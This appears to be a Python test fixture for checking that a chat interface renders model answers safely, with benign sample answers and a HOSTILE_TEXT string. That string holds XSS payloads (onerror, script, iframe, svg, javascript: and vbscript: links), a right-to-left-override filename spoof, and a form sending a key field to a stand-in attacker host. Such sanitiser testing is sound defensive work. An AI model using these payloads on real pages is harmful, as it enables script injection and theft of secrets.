"""Questions and answers for pictures of the page, and text that attacks it."""

from dataclasses import dataclass

RIGHT_TO_LEFT_OVERRIDE = "\u202e"
HOSTILE_TEXT = f"""# <img src=x onerror="window.__ran = 1">

<script>window.__ran = 2</script>
<iframe srcdoc="<script>parent.__ran = 3</script>"></iframe>
<svg onload="window.__ran = 4"><a href="javascript:window.__ran = 5">x</a></svg>

[click me](javascript:window.__ran=6) [and me](  JaVaScRiPt:window.__ran=7) [data](data:text/html,<script>1</script>)
<a href="javascript:window.__ran=8" target=_blank>raw link</a>
![tracking pixel](https://tracker.example/pixel.png) ![x](x" onerror="window.__ran=9)

The file is called gpj.{RIGHT_TO_LEFT_OVERRIDE}exe.txt and `a{RIGHT_TO_LEFT_OVERRIDE}b`.

<style>body {{ display: none }}</style><form action="https://evil.example"><input name=key></form>
| a | b |
|---|---|
| <b onclick="window.__ran=10">cell</b> | [x](vbscript:msgbox) |
"""


@dataclass(frozen=True)
class Sample:
    """A question, what a model thinks about it, the tool that it calls, and its answer."""

    question: str
    answer: str
    reasoning: str = ""
    call: tuple[str, str] | None = None


ANSWERS = (
    Sample(
        "rotate the signing keys",
        "Rotate them in three steps:\n\n"
        "1. **Add** the new key beside the old one, so that both verify.\n"
        "2. **Sign** with the new key, once every replica has it.\n"
        "3. **Remove** the old key after the longest lifetime of a token, which is 12 h here.\n\n"
        "```sh\nkeyctl add --id 2026-11 --not-before now\nkeyctl promote 2026-11\n"
        "keyctl retire 2026-05 --after 12h\n```\n\n"
        "The order matters: a replica that has only the old key rejects tokens of the new one.",
        reasoning="Two keys overlap for the lifetime of a token. Adding comes first, signing second, removal last.",
    ),
    Sample(
        "only one region",
        "Then step 1 needs no wait: a single region has the new key as soon as `keyctl add` returns. "
        "Keep the 12 h before the removal, because tokens that clients hold were signed with the old key.",
    ),
    Sample(
        "weather in Lisbon",
        "In Lisbon it is 21 °C and clear, with a light wind from the north-west.",
        reasoning="The user wants current data, so I call the tool.",
        call=("get_weather", '{"city": "Lisbon", "unit": "celsius"}'),
    ),
    Sample(
        "incident of last night",
        "**Summary.** From 02:14 to 02:41 UTC, 3.2 % of requests failed with 502.\n\n"
        "| time | event |\n|---|---|\n| 02:14 | the pool of connections is exhausted |\n"
        "| 02:22 | the circuit of `vllm-2` opens |\n| 02:41 | the pool is resized, errors end |\n\n"
        "The cause was a retry loop without a limit in the billing worker.",
        reasoning="The log shows the order: pool, circuit, resize. The billing worker retried without a limit.",
    ),
    Sample(
        "unit test for parse_duration",
        "```python\n@pytest.mark.parametrize(\n"
        '    ("text", "seconds"), [("90s", 90), ("12h", 43_200), ("2w", 1_209_600)]\n)\n'
        "def test_a_span_is_parsed(text: str, seconds: int) -> None:\n"
        "    assert parse_duration(text) == seconds\n```\n\n"
        "Add a case for text without a unit: it should raise.",
    ),
    Sample("Antiphon", "Antiphon serves the Responses API for every model, with its state."),
)
